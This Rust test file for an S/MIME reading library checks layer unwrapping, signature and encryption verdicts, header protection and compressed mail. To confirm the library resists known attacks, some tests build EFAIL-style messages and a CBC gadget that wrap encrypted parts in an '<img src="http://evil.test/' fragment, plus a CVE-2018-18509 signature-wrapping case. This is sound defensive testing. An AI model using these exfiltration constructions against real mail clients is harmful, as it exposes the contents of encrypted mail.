//! Reading all layers, and the verdict on the whole.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "a test fails by panicking")]

mod common;

use std::sync::LazyLock;

use common::*;
use wafer_smime::Error;
use wafer_smime::algorithm::{Armor, Container, ContentCipher};
use wafer_smime::headers::{HeaderConfidentiality, HeaderProtection};
use wafer_smime::read::{Concern, Layer, PartKind, Protection, Report};
use wafer_smime::sign::Form;

static ANNA: LazyLock<Person> = LazyLock::new(|| Person::new(Key::P256));

fn seal(message: &[u8], cipher: ContentCipher) -> Vec<u8> {
    encrypt(message, MAIL, cipher, &[&ANNA])
}

fn gcm(message: &[u8]) -> Vec<u8> {
    seal(message, ContentCipher::Aes256Gcm)
}

fn cbc(message: &[u8]) -> Vec<u8> {
    seal(message, ContentCipher::Aes128Cbc)
}

fn sign(message: &[u8], form: Form) -> Vec<u8> {
    ANNA.sign(message, MAIL, form)
}

fn clear(message: &[u8]) -> Vec<u8> {
    sign(message, Form::Clear)
}

fn opaque(message: &[u8]) -> Vec<u8> {
    sign(message, Form::Opaque)
}

fn read_one(message: &[u8]) -> (Report, Vec<u8>) {
    read(message, &[&ANNA]).unwrap()
}

/// Protection and concerns of what reads well.
fn verdict(message: &[u8]) -> (Protection, Vec<Concern>) {
    let (report, _) = read_one(message);
    (report.protection, report.concerns)
}

fn kinds(report: &Report) -> String {
    let letter = |layer: &Layer| match layer {
        Layer::Signed(layer) if layer.form == Form::Clear => 's',
        Layer::Signed(_) => 'o',
        Layer::Encrypted(_) => 'e',
        Layer::Compressed => 'c',
        Layer::Certificates(_) => 'x',
        _ => '?',
    };
    report.layers.iter().map(letter).collect()
}

#[test]
fn every_layer_is_peeled_and_the_entity_is_what_was_signed() {
    let letter = LETTER.as_bytes();
    for (message, layers, protection) in [
        (clear(letter), "s", Protection::Signed),
        (opaque(letter), "o", Protection::Signed),
        (gcm(letter), "e", Protection::Encrypted),
        (gcm(&clear(letter)), "es", Protection::SignedThenEncrypted),
        (cbc(&opaque(letter)), "eo", Protection::SignedThenEncrypted),
        (opaque(&gcm(&clear(letter))), "oes", Protection::SignedThenEncrypted),
        (clear(&cbc(&opaque(letter))), "seo", Protection::SignedThenEncrypted),
    ] {
        let (report, entity) = read_one(&message);
        assert_eq!(kinds(&report), layers);
        assert_eq!(report.protection, protection, "{layers}");
        assert_eq!(report.concerns, [], "{layers}");
        assert_eq!(report.from, ["anna@example.test"]);
        let entity = String::from_utf8(entity).unwrap();
        assert!(entity.ends_with(&letter_entity()), "{layers}: {entity}");
        // Once sealed, the outer fields stay outside.
        assert!(!entity.contains("Subject"), "{layers}");
    }
}

#[test]
fn a_plain_message_comes_as_it_is() {
    let (report, entity) = read_one(LETTER.as_bytes());
    assert_eq!((report.protection, entity.as_slice()), (Protection::None, LETTER.as_bytes()));
    assert!(report.layers.is_empty() && report.concerns.is_empty() && report.signatures.is_empty());
}

#[test]
fn signatures_that_do_not_count_are_said_to() {
    let letter = LETTER.as_bytes();
    let outside = [Concern::SignatureOutsideEncryption];
    assert_eq!(verdict(&clear(&gcm(letter))), (Protection::Encrypted, outside.to_vec()));
    let nested = [Concern::NestedSignatures];
    assert_eq!(verdict(&clear(&opaque(letter))), (Protection::Signed, nested.to_vec()));
    let both = vec![Concern::SignatureOutsideEncryption, Concern::NestedSignatures];
    assert_eq!(verdict(&clear(&opaque(&gcm(letter)))), (Protection::None, both));
    assert_eq!(verdict(&cbc(letter)), (Protection::Encrypted, vec![Concern::Malleable]));
}

#[test]
fn an_altered_content_is_not_signed() {
    let altered =
        |message: Vec<u8>| String::from_utf8(message).unwrap().replace("Dear Bert", "Dear Eve!").into_bytes();
    let bad = vec![Concern::BadSignature];
    assert_eq!(verdict(&altered(clear(LETTER.as_bytes()))), (Protection::None, bad.clone()));
    let sealed = gcm(&altered(clear(LETTER.as_bytes())));
    assert_eq!(verdict(&sealed), (Protection::Encrypted, bad));
}

#[test]
fn an_unreadable_signature_still_shows_its_content() {
    let signed = String::from_utf8(clear(LETTER.as_bytes())).unwrap();
    let (front, back) = signed.rsplit_once("filename=\"smime.p7s\"\r\n\r\n").unwrap();
    let broken = format!("{front}filename=\"smime.p7s\"\r\n\r\nAAAA{}", &back[4..]);
    let (report, entity) = read_one(broken.as_bytes());
    assert_eq!(entity, letter_entity().into_bytes());
    assert_eq!((report.protection, report.concerns), (Protection::None, vec![Concern::BadSignature]));
    // A signature that brings a content of its own is over that, whatever stands beside it (CVE-2018-18509).
    let opaque = String::from_utf8(opaque(b"Content-Type: text/plain\r\n\r\nanother")).unwrap();
    let (_, object) = opaque.split_once("\r\n\r\n").unwrap();
    let (_, end) = back.split_once("\r\n--").unwrap();
    let mismatch = format!("{front}filename=\"smime.p7s\"\r\n\r\n{object}\r\n--{end}");
    assert_eq!(verdict(mismatch.as_bytes()), (Protection::None, vec![Concern::BadSignature]));
}

fn mixed(parts: &[&[u8]]) -> Vec<u8> {
    let mut all =
        b"From: anna@example.test\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n"
            .to_vec();
    for part in parts {
        all.extend_from_slice(b"--m\r\n");
        all.extend_from_slice(part);
        all.extend_from_slice(b"\r\n");
    }
    all.extend_from_slice(b"--m--\r\n");
    all
}

const FOOTER: &[u8] = b"Content-Type: text/plain\r\n\r\na list's footer";

#[test]
fn a_part_is_not_the_whole() {
    let (report, entity) = read_one(&mixed(&[&clear(LETTER.as_bytes()), FOOTER]));
    assert_eq!(
        (report.protection, report.concerns.as_slice()),
        (Protection::None, &[Concern::SignedPart][..])
    );
    assert_eq!((report.parts[0].path.as_str(), report.parts[0].kind), ("1", PartKind::Signed));
    assert_eq!(report.parts.len(), 1);
    assert!(entity.starts_with(b"From:"));
    // EFAIL: the encrypted part stays encrypted.
    let img = b"Content-Type: text/html\r\n\r\n<img src=\"http://evil.test/";
    for sealed in [gcm(LETTER.as_bytes()), cbc(LETTER.as_bytes()), without_type(&cbc(LETTER.as_bytes()))] {
        let (report, entity) = read_one(&mixed(&[img, &sealed, b"Content-Type: text/html\r\n\r\n\">"]));
        assert_eq!(
            (report.protection, report.concerns.as_slice()),
            (Protection::None, &[Concern::EncryptedPart][..])
        );
        assert_eq!((report.parts[0].path.as_str(), report.parts[0].kind), ("2", PartKind::Encrypted));
        assert!(!String::from_utf8_lossy(&entity).contains("Dear Bert"));
    }
    // A forwarded message's signature is not this message's.
    let forwarded = [b"Content-Type: message/rfc822\r\n\r\n".as_slice(), &opaque(LETTER.as_bytes())].concat();
    let (report, _) = read_one(&mixed(&[FOOTER, &forwarded]));
    assert_eq!(report.protection, Protection::None);
    assert!(report.parts[0].forwarded && report.parts[0].path == "2");
    // Inside an encryption the same holds for the signature, and the encryption is the whole's.
    let (report, _) = read_one(&gcm(&mixed(&[&clear(LETTER.as_bytes()), FOOTER])));
    assert_eq!(
        (report.protection, report.concerns.as_slice()),
        (Protection::Encrypted, &[Concern::SignedPart][..])
    );
}

/// Without smime-type and names: only the CMS object says what it is.
fn without_type(message: &[u8]) -> Vec<u8> {
    let text = String::from_utf8(message.to_vec()).unwrap();
    let (head, body) = text.split_once("\r\n\r\n").unwrap();
    let kept: Vec<&str> = head.lines().take_while(|line| !line.starts_with("MIME-Version")).collect();
    format!(
        "{}\r\nContent-Type: application/x-pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n{body}",
        kept.join("\r\n")
    )
    .trim_start()
    .into()
}

#[test]
fn whatever_the_head_says_the_object_decides() {
    let letter = LETTER.as_bytes();
    for (message, layers) in [(opaque(letter), "o"), (gcm(letter), "e"), (cbc(&clear(letter)), "es")] {
        let text = String::from_utf8(message.clone()).unwrap();
        let (head, body) = text.split_once("\r\n\r\n").unwrap();
        let fields: Vec<&str> = head.lines().take_while(|line| !line.starts_with("MIME-Version")).collect();
        let der = base64(body);
        let quoted: String = der.iter().map(|byte| format!("={byte:02X}=\r\n")).collect();
        for (kind, encoding, body) in [
            ("application/pkcs7-mime; smime-type=certs-only", "base64", body.as_bytes()),
            ("application/octet-stream; name=\"a.p7m\"", "base64", body.as_bytes()),
            (
                "application/octet-stream; name=x\r\nContent-Disposition: attachment; filename=A.P7Z",
                "base64",
                body.as_bytes(),
            ),
            ("application/pkcs7-mime", "binary", &der),
            ("application/pkcs7-mime", "8bit", &der),
            ("application/x-pkcs7-mime", "7bit", body.as_bytes()),
            ("application/pkcs7-mime", "quoted-printable", quoted.as_bytes()),
        ] {
            let head = format!(
                "{}\r\nContent-Type: {kind}\r\nContent-Transfer-Encoding: {encoding}\r\n\r\n",
                fields.join("\r\n")
            );
            let (report, _) = read_one(&[head.as_bytes(), body].concat());
            assert_eq!(kinds(&report), layers, "{kind} {encoding}");
        }
    }
}

fn base64(text: &str) -> Vec<u8> {
    ANNA.write("base64", text.as_bytes());
    ANNA.openssl("base64 -d -in base64")
}

#[test]
fn several_senders_and_twofold_heads_void_all() {
    let twice = [b"From: eve@example.test\r\n".as_slice(), &clear(LETTER.as_bytes())].concat();
    assert_eq!(verdict(&twice), (Protection::None, vec![Concern::SeveralSenders]));
    let two =
        String::from_utf8(clear(LETTER.as_bytes())).unwrap().replace("From: Anna", "From: eve@x.test, Anna");
    assert_eq!(verdict(two.as_bytes()), (Protection::None, vec![Concern::SeveralSenders]));
    let types = [b"Content-Type: text/plain\r\n".as_slice(), LETTER.as_bytes()].concat();
    assert_eq!(verdict(&gcm(&types)), (Protection::None, vec![Concern::AmbiguousHead]));
}

#[test]
fn tampered_cbc_plaintext_is_not_encrypted_mail() {
    let gadget = "Content-Type: text/html\r\n\r\n<img a=\"\u{1}\u{2}\u{90}garbage\" src=\"http://evil.test/";
    let (protection, concerns) = verdict(&cbc(gadget.as_bytes()));
    assert_eq!((protection, concerns), (Protection::None, vec![Concern::Malleable, Concern::Garbled]));
    // What is authenticated may hold what it likes.
    assert_eq!(verdict(&gcm(gadget.as_bytes())), (Protection::Encrypted, vec![]));
    assert_eq!(verdict(&cbc(&opaque(gadget.as_bytes()))), (Protection::SignedThenEncrypted, vec![]));
}

#[test]
fn too_many_layers_end_the_way() {
    let mut message = LETTER.as_bytes().to_vec();
    for _ in 0..10 {
        message = opaque(&message);
    }
    let (report, entity) = read_one(&message);
    assert_eq!((report.layers.len(), report.protection), (8, Protection::None));
    assert_eq!(report.concerns, [Concern::TooDeep, Concern::NestedSignatures]);
    assert!(String::from_utf8(entity).unwrap().contains("pkcs7-mime"));
}

#[test]
fn what_is_no_such_message_fails() {
    for bad in [
        "",
        "no head\n\nx",
        "Content-Type: application/pkcs7-mime\n\nMAMCAQU=",
        "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"\n\nx",
    ] {
        assert!(matches!(read(bad.as_bytes(), &[]), Err(Error::Malformed(_))), "{bad:?}");
    }
    assert!(matches!(read(&gcm(LETTER.as_bytes()), &[]), Err(Error::Decryption)));
}

#[test]
fn what_is_inside_need_not_be_mime() {
    ANNA.write("bytes", b"\x00 no head \xff");
    ANNA.openssl("cms -encrypt -binary -aes-256-gcm -in bytes -out sealed -recip cert.pem");
    let (report, entity) = read_one(&ANNA.read("sealed"));
    assert_eq!((kinds(&report), entity.as_slice()), ("e".to_owned(), &b"\x00 no head \xff"[..]));
}

fn compress(mut message: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    wafer_smime::compress::compress(&mut message, MAIL, &mut out).unwrap();
    out
}

#[test]
fn compressed_mail_is_read() {
    let letter = compress(LETTER.as_bytes());
    let (report, entity) = read_one(&letter);
    assert_eq!((kinds(&report), report.protection), ("c".to_owned(), Protection::None));
    assert_eq!(entity, letter_entity().into_bytes());
    assert_eq!(kinds(&read_one(&gcm(&clear(&letter))).0), "esc");
    assert_eq!(
        verdict(&compress(&gcm(&opaque(LETTER.as_bytes())))),
        (Protection::SignedThenEncrypted, vec![])
    );
    assert_eq!(verdict(&compress(&letter)), (Protection::None, vec![Concern::TooDeep]));
    let zeros = [b"Content-Type: text/plain\r\n\r\n".as_slice(), &[b'0'; 4 << 20]].concat();
    assert!(matches!(read(&gcm(&compress(&zeros)), &[&ANNA]), Err(Error::Limit(_))));
}

#[test]
fn openssl_decompresses_ours() {
    ANNA.write("compressed", &compress(LETTER.as_bytes()));
    let output = run("openssl", ANNA.dir.path(), &words("cms -uncompress -in compressed"));
    let told = String::from_utf8_lossy(&output.stderr).into_owned();
    // Debian builds OpenSSL without zlib.
    assert!(
        output.status.success() && output.stdout == letter_entity().into_bytes()
            || told.contains("unsupported compression"),
        "{told}"
    );
}

/// What a relay does that takes 7bit only: it encodes what is more, and drops blanks at line ends.
fn relayed(message: &[u8]) -> Vec<u8> {
    let text = String::from_utf8(message.to_vec()).expect("a relay would make something else of it");
    assert!(text.is_ascii());
    let mended =
        |line: &str| if line.starts_with("From ") { format!(">{line}") } else { line.trim_end().to_owned() };
    text.split("\r\n").map(mended).collect::<Vec<_>>().join("\r\n").into_bytes()
}

#[test]
fn a_clear_signature_survives_a_relay() {
    let eight =
        LETTER.replace("quoted-printable", "8bit").replace("=C3=A4", "\u{e4} \n").replace("=46rom", "From");
    let binary = "From: anna@example.test\nContent-Type: application/octet-stream\n\
        Content-Transfer-Encoding: binary\n\n\u{0}\n\r\n\u{e4}From \n";
    let long = format!("From: anna@example.test\n\n{}", "long ".repeat(1000));
    let nested = format!(
        "From: anna@example.test\nContent-Type: multipart/mixed; boundary=m\nContent-Transfer-Encoding: 8bit\n\n\
         --m\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n\u{e4} \n.\n\n--m\n\
         Content-Type: message/rfc822\nContent-Transfer-Encoding: 8bit\n\n{eight}\n--m\n\
         Content-Type: text/plain\nContent-Transfer-Encoding: quoted-printable\n\nFrom x =20 \n--m--\n"
    );
    for message in [eight.as_str(), binary, &long, &nested] {
        let signed = clear(message.as_bytes());
        let (report, entity) = read_one(&relayed(&signed));
        assert_eq!((report.protection, report.concerns), (Protection::Signed, vec![]), "{message}");
        let parsed = |bytes: &[u8]| mail_parser::MessageParser::default().parse(bytes).unwrap().into_owned();
        let texts = |bytes: &[u8]| {
            let message = parsed(bytes);
            let texts = message.parts.iter().map(|part| part.contents().to_vec()).collect::<Vec<_>>();
            texts
                .into_iter()
                .map(|text| String::from_utf8_lossy(&text).replace("\r\n", "\n"))
                .collect::<Vec<_>>()
        };
        if message != nested {
            assert_eq!(texts(&entity), texts(message.as_bytes()));
        }
    }
    // Another's signature inside stays as it is.
    let inner = opaque(eight.as_bytes());
    assert!(read_one(&clear(&inner)).0.layers.len() == 2);
}

#[test]
fn headers_are_protected_if_the_message_asks_for_it() {
    let asks = |mode: &str| {
        let kind = format!("Content-Type: text/plain; hp=\"{mode}\"; charset=");
        LETTER
            .replace("Content-Type: text/plain; charset=", &kind)
            .replace("To: ", "Keywords: a secret\nBcc: c@d.test\nTo: ")
    };
    let signed = clear(asks("clear").as_bytes());
    let (report, entity) = read_one(&signed);
    assert_eq!((report.protection, report.concerns), (Protection::Signed, vec![]));
    let headers = report.headers.unwrap();
    assert!(!headers.cipher && headers.confidential.is_empty());
    assert!(headers.fields.contains(&("Subject".to_owned(), "a letter".to_owned())));
    assert!(!String::from_utf8(entity).unwrap().contains("Bcc"));
    let other = String::from_utf8(signed).unwrap().replacen("Subject: a letter", "Subject: another", 1);
    assert_eq!(read_one(other.as_bytes()).0.concerns, [Concern::SubjectMismatch]);

    for sealed in [gcm(&opaque(asks("cipher").as_bytes())), gcm(asks("cipher").as_bytes())] {
        let outside = String::from_utf8(sealed.clone()).unwrap();
        assert!(
            outside.contains("Subject: [...]\r\n") && !outside.contains("secret") && outside.contains("Bcc")
        );
        let (report, _) = read_one(&sealed);
        assert_eq!(report.concerns, []);
        let headers = report.headers.unwrap();
        assert_eq!(
            (headers.cipher, headers.confidential.as_slice()),
            (true, &["Keywords".to_owned(), "Subject".to_owned()][..])
        );
        assert!(headers.fields.contains(&("Subject".to_owned(), "a letter".to_owned())));
    }
    // What the message does not say can be wanted all the same: the shy policy hides the names, too.
    let shy = HeaderProtection::Cipher(HeaderConfidentiality::Shy);
    let mut options = encrypt_options(MAIL, ContentCipher::Aes256Gcm, &[&ANNA]);
    options.style.headers = shy;
    let sealed = encrypt_with(asks("clear").as_bytes(), &options);
    assert!(String::from_utf8(sealed.clone()).unwrap().contains("From: anna@example.test\r\n"));
    let (report, _) = read_one(&sealed);
    assert_eq!(report.concerns, []);
    let headers = report.headers.unwrap();
    assert_eq!(
        (headers.cipher, headers.confidential),
        (true, ["From", "Keywords", "To", "Subject"].map(String::from).to_vec())
    );
    // Or not wanted, though the message asks for it.
    options.style.headers = HeaderProtection::Outside;
    let sealed = encrypt_with(asks("cipher").as_bytes(), &options);
    assert!(String::from_utf8(sealed.clone()).unwrap().contains("Subject: a letter\r\n"));
    assert_eq!(read_one(&sealed).0.headers, None);
    // Decrypted, it is one message again, with the true subject.
    let (_, opened) = ANNA.decrypt(&gcm(asks("cipher").as_bytes()), MAIL).unwrap();
    let opened = String::from_utf8(opened).unwrap();
    assert_eq!(
        opened.matches("\r\nSubject:").count() + usize::from(opened.starts_with("Subject:")),
        1,
        "{opened}"
    );
    assert!(opened.contains("Subject: a letter") && opened.matches("From:").count() == 2, "{opened}");
}

/// Bare CMS, as in a file `smime.p7m`, in every shape; and CMS directly in CMS, as PKCS #7 nested it.
#[test]
fn objects_without_mime_are_layers_too() {
    let content = LETTER.as_bytes();
    let ber = {
        ANNA.write("content", content);
        ANNA.openssl(
            "cms -sign -binary -nodetach -stream -outform DER -in content -signer cert.pem -inkey key.pem",
        )
    };
    let shapes = [Armor::Der, Armor::Base64, Armor::Pem].map(Container::Cms);
    let signed = shapes.map(|container| ANNA.sign(content, container, Form::Opaque));
    for object in signed.iter().chain([&ber]) {
        let (report, inside) = read_one(object);
        assert_eq!(report.protection, Protection::Signed, "{report:?}");
        assert!(report.from.is_empty(), "what is inside says nothing of who sent it: {:?}", report.from);
        assert_eq!(inside, content);
        for container in shapes {
            let sealed = encrypt(object, container, ContentCipher::Aes256Gcm, &[&ANNA]);
            let (report, inside) = read_one(&sealed);
            assert_eq!(report.protection, Protection::SignedThenEncrypted, "{report:?}");
            assert_eq!((report.layers.len(), inside.as_slice()), (2, content));
        }
    }
    let (report, inside) = read_one(&encrypt(b"no MIME, no CMS", DER, ContentCipher::Aes128Cbc, &[&ANNA]));
    assert_eq!((report.protection, inside.as_slice()), (Protection::Encrypted, &b"no MIME, no CMS"[..]));

    let why = |bytes: &[u8]| read(bytes, &[&ANNA]).unwrap_err().to_string();
    let detached = ANNA.sign(content, DER, Form::Clear);
    assert!(why(&detached).contains("a signature without its content"), "{}", why(&detached));
    assert!(why(&signed[0][..100]).contains("ends early"), "{}", why(&signed[0][..100]));
    assert!(why(b"MIICnothing of the kind\n").contains("line 1 is no header field"));
    // Inside, it is what it is.
    let (report, inside) = read_one(&encrypt(&detached, DER, ContentCipher::Aes256Gcm, &[&ANNA]));
    assert_eq!((report.concerns, inside), (vec![Concern::UnreadableLayer], detached));
}
